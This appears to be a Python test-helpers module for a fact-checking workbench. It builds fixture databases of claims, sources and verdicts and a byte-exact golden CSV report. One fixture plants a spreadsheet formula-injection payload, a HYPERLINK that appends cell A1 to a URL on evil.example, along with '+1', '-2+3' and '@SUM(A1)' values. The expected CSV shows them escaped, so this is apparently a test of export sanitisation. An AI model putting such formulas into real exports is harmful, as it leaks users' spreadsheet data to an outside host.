"""Test data that more than one test module makes, one maker per concept.

Test modules share helpers only through this module and the conftest modules, never by
importing one another, so a test file can be split, renamed or deleted without breaking
another. The makers go through the real services, so the data is what users produce;
where a test needs exact figures they then pin the timestamps with plain SQL, since
``created_at`` defaults to the wall clock.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import UTC, date, datetime
from typing import Any

from sqlalchemy import Engine, create_engine, text, update
from sqlmodel import Session

from workbench import articles, claims, db, ratings, sources, summary, users, verdicts
from workbench.errors import StaleEdit
from workbench.models import Article, Claim, User, Verdict
from workbench.reports.columns import COLUMNS
from workbench.reports.csv_import import ImportReport, run_import
from workbench.reports.csv_read import ReadOptions
from workbench.sample import load_sample


def cli_admin_user(engine: Engine) -> User:
    """The built-in ``cli`` admin, who may export and restore."""
    with db.write_session(engine) as session:
        return users.builtin_user(session, users.CLI_USER)


def claim_on(session: Session, user: User, article: Article, quote: str, **fields: Any) -> Claim:
    """A claim on the first occurrence of ``quote`` in ``article``; its statement is the
    quote unless ``fields`` say otherwise."""
    start = article.body.index(quote)
    return claims.create_claim(
        session,
        user,
        claims.ClaimDraft(
            article_id=article.id,
            start=start,
            end=start + len(quote),
            **{"statement": quote, **fields},
        ),
    )


def add_evidence(session: Session, user: User, claim_id: int, urls: list[str]) -> None:
    """One refuting source per URL, attached to the claim."""
    for url in urls:
        source = sources.add_source(session, user, sources.SourceDraft(url=url, title=url[8:30]))
        sources.attach_source(session, user, claim_id, source.id, stance="refutes")


# The review desk: the review queue, dashboard, filter and page tests read exact figures off it.

RATIONALE = "The Council's release puts the package at a different figure entirely."
QUOTES = ("valued at least at $6.2 billion", "an €800 billion plan", "coalition of the willing")


@dataclass
class Desk:
    article_id: int
    other_article_id: int
    claim_ids: list[int]  # c0 approved False, c1 approved True, c2 proposed, c3 new repeat of c0
    verdict_ids: list[int]  # v0 (c0), v1 (c1), v2 (c2, pending)


def build_desk(engine: Engine, reviewer: User, editor: User) -> Desk:
    """Two articles (outlets "TROIB News" and "Daily Other"), four claims, three verdicts."""
    with db.write_session(engine) as session:
        article = load_sample(session, reviewer)
        other = articles.add_article(
            session,
            reviewer,
            articles.ArticleDraft(
                title="Other story",
                body="The minister said the plan costs €800 billion in total.",
                outlet="Daily Other",
                language="en",
            ),
        )
        c0 = claim_on(session, reviewer, article, QUOTES[0], claimant="Reports", tags=["aid", "eu"])
        c1 = claim_on(
            session, reviewer, article, QUOTES[1], claimant="Ursula von der Leyen", tags=["eu"]
        )
        c2 = claim_on(session, reviewer, article, QUOTES[2], claimant="Reports")
        c3 = claim_on(
            session,
            reviewer,
            other,
            "the plan costs €800 billion",
            claimant="Ursula von der Leyen",
            repeat_of_id=c0.id,
            tags=["eu"],
        )
        add_evidence(session, reviewer, c0.id, ["https://a.example/1", "https://b.example/2"])
        add_evidence(session, reviewer, c1.id, ["https://a.example/3", "https://b.example/4"])
        add_evidence(session, reviewer, c2.id, ["https://a.example/5"])
        ids = [c.id for c in (c0, c1, c2, c3)]
    verdict_ids = []
    for claim_id, label in zip(ids[:3], ("False", "True", "Mostly false"), strict=True):
        with db.write_session(engine) as session:
            claim = claims.get_claim(session, claim_id)
            verdict_ids.append(
                verdicts.propose_verdict(
                    session,
                    reviewer,
                    claim_id,
                    claim.version,
                    rating_id=ratings.find_rating(session, label).id,
                    rationale=RATIONALE,
                ).id
            )
    for verdict_id in verdict_ids[:2]:
        with db.write_session(engine) as session:
            verdict = verdicts.get_verdict(session, verdict_id)
            verdicts.approve_verdict(session, editor, verdict_id, verdict.version)
    _pin_desk_times(engine, ids, verdict_ids)
    return Desk(article.id, other.id, ids, verdict_ids)


def _pin_desk_times(engine: Engine, claim_ids: list[int], verdict_ids: list[int]) -> None:
    """Claims created 2026-01-05 (Monday, ISO week 2); c0 approved 2 days later (week 2),
    c1 approved 10 days later (2026-01-15, week 3); c2 proposed 2026-01-06."""
    created = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)
    stamps = {
        verdict_ids[0]: datetime(2026, 1, 7, 9, 0, tzinfo=UTC),
        verdict_ids[1]: datetime(2026, 1, 15, 9, 0, tzinfo=UTC),
    }
    with db.write_session(engine) as session:
        session.exec(
            update(Claim)
            .where(Claim.id.in_(claim_ids))  # type: ignore[union-attr]
            .values(created_at=created)
        )
        for verdict_id, when in stamps.items():
            session.exec(
                update(Verdict)
                .where(Verdict.id == verdict_id)
                .values(reviewed_at=when, created_at=created)
            )
        session.exec(
            update(Verdict)
            .where(Verdict.id == verdict_ids[2])
            .values(created_at=datetime(2026, 1, 6, 9, 0, tzinfo=UTC))
        )
        summary.rebuild(session)  # the plain UPDATEs above bypass the services


# The fixed report database: the CSV report's exact bytes, and what the other reports read.

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_QUOTE = 'Line one, "quoted"\r\nline two 🙂 مرحبا بالعالم'
_REPORT_BODY = (
    "Brussels (Wire) - The EU backed an aid package valued at least at $6.2 billion, "
    'reports said.\nUrsula von der Leyen called ReArm Europe "an €800 billion plan".'
)
_REPORT_TABLES = ("audit_event", "evidence", "verdict", "claim_tag", "claim", "source")


def build_fixed_db(engine: Engine, reviewer: User, editor: User) -> None:
    """Four claims: approved with evidence, hostile free-standing, new, dismissed."""
    with db.write_session(engine) as s:
        cli = users.builtin_user(s, users.CLI_USER)
        article = articles.add_article(
            s,
            reviewer,
            articles.ArticleDraft(
                title='EU aid, "ReArm"',
                body=_REPORT_BODY,
                outlet="Wire",
                url="https://news.example/aid",
            ),
        )
        start = article.body.index("$6.2 billion")
        first = claims.create_claim(
            s,
            reviewer,
            claims.ClaimDraft(
                article_id=article.id,
                start=start,
                end=start + 12,
                statement="EU aid is $6.2bn",
                claimant="Ursula von der Leyen",
                claim_date=date(2025, 3, 4),
                claim_type="numeric",
                tags=["defence", "EU"],
            ),
        )
        for n, archive in ((1, "https://web.archive.org/web/2025/https://a.example/1"), (2, "")):
            source = sources.add_source(
                s, reviewer, sources.SourceDraft(url=f"https://a.example/{n}", archive_url=archive)
            )
            sources.attach_source(
                s, reviewer, first.id, source.id, stance="supports", independent=n == 1
            )
        claims.create_claim(
            s,
            cli,
            claims.ClaimDraft(
                article_id=None,
                quote=HOSTILE_QUOTE,
                statement=FORMULA,
                claimant="+1",
                tags=["-2+3", "@SUM(A1)"],
                claim_type="quote",
            ),
        )
        rearm = _REPORT_BODY.index("ReArm")
        claims.create_claim(
            s, reviewer, claims.ClaimDraft(article_id=article.id, start=rearm, end=rearm + 12)
        )
        fourth = claims.create_claim(
            s, cli, claims.ClaimDraft(article_id=None, quote="-5 degrees", statement="-5 degrees")
        )
        claims.move_claim(s, cli, fourth.id, fourth.version, "dismissed")
    with db.write_session(engine) as s:
        claim = claims.get_claim(s, first.id)
        verdict = verdicts.propose_verdict(
            s,
            reviewer,
            first.id,
            claim.version,
            rating_id=ratings.find_rating(s, "Mostly true").id,
            rationale='Two reports agree;\nthe total is "at least" $6.2 billion.',
        )
    with db.write_session(engine) as s:
        verdicts.approve_verdict(s, editor, verdict.id, verdict.version, confirm_few_sources=True)
    with engine.begin() as connection:
        connection.execute(
            text("UPDATE claim SET created_at = :c, updated_at = :u"),
            {"c": "2025-03-05 10:00:00", "u": "2025-03-06 11:30:00"},
        )
        connection.execute(
            text("UPDATE verdict SET created_at = :t, reviewed_at = :t"),
            {"t": "2025-03-07 09:15:00"},
        )


def empty_claims(engine: Engine) -> None:
    """Everything the report covers removed: users and articles stay."""
    with engine.begin() as connection:
        for table in _REPORT_TABLES:
            connection.execute(text(f"DELETE FROM {table}"))  # noqa: S608 - fixed names


HEADER = ",".join(COLUMNS)
#: The CSV report of ``build_fixed_db``'s database, byte for byte.
GOLDEN = (
    HEADER + "\r\n"
    '1,"EU aid, ""ReArm""",https://news.example/aid,$6.2 billion,66,78,EU aid is $6.2bn,'
    "Ursula von der Leyen,2025-03-04,numeric,EU | defence,approved,Mostly true,5,"
    '"Two reports agree;\nthe total is ""at least"" $6.2 billion.",2,1,'
    "https://a.example/1 | https://a.example/2,"
    "https://web.archive.org/web/2025/https://a.example/1 | ,rita,eddie,2025-03-07T09:15:00Z,0,"
    '2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,4,1,anchored,rita,"EU aid, ""ReArm""",,\r\n'
    '2,,,"Line one, ""quoted""\nline two 🙂 مرحبا بالعالم",,,'
    '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'+1,,quote,'
    "'-2+3 | @SUM(A1),new,,,,0,0,,,cli,,,0,2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,1,,none,"
    "cli,,,\r\n"
    '3,"EU aid, ""ReArm""",https://news.example/aid,ReArm Europe,122,134,ReArm Europe,,,other,,'
    "new,,,,0,0,,,rita,,,0,2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,1,1,anchored,rita,"
    '"EU aid, ""ReArm""",,\r\n'
    "4,,,'-5 degrees,,,'-5 degrees,,,other,,dismissed,,,,0,0,,,cli,,,0,"
    "2025-03-05T10:00:00Z,2025-03-06T11:30:00Z,2,,none,cli,,,\r\n"
).encode("utf-8")


def csv_file(*rows: dict[str, str]) -> bytes:
    """A claims CSV file in the report's columns; cells a row leaves out are empty, and a
    misspelt column name raises rather than vanish."""
    out = io.StringIO()
    writer = csv.DictWriter(out, COLUMNS, restval="", lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def import_as_cli(
    engine: Engine, data: bytes, options: ReadOptions | None = None, **kw: Any
) -> ImportReport:
    """``data`` imported by the built-in ``cli`` admin."""
    return run_import(cli_admin_user(engine), data, options or ReadOptions(), engine=engine, **kw)


# Saved claims a backup must keep: the backup tests and ``workbench db backup|restore``.

#: Per claim: its version, and how many audited updates it had (the two must agree).
_CONSISTENCY = text("""
    SELECT c.id, c.version,
           (SELECT COUNT(*) FROM audit_event a
             WHERE a.claim_id = c.id AND a.entity = 'claim' AND a.action = 'update') AS updates
      FROM claim c ORDER BY c.id""")


def add_claims(engine: Engine, user: User, count: int) -> list[int]:
    """``count`` free-standing claims; their ids."""
    with db.write_session(engine) as session:
        return [
            claims.create_claim(
                session,
                user,
                claims.ClaimDraft(
                    article_id=None, quote=f"Claim number {n} says something checkable."
                ),
            ).id
            for n in range(count)
        ]


def edit_statement(engine: Engine, user: User, claim_id: int, statement: str) -> None:
    """One save through the service, as the Annotate page makes it (retrying a stale edit)."""
    while True:
        try:
            with db.write_session(engine) as session:
                claim = claims.get_claim(session, claim_id)
                claims.update_claim(session, user, claim_id, claim.version, statement=statement)
            return
        except StaleEdit:
            continue


def claim_versions(url: str) -> list[tuple[int, int, int]]:
    """(id, version, audited updates) of every claim in the database at ``url``."""
    engine = create_engine(url)
    try:
        with engine.connect() as connection:
            return [tuple(row) for row in connection.execute(_CONSISTENCY)]
    finally:
        engine.dispose()
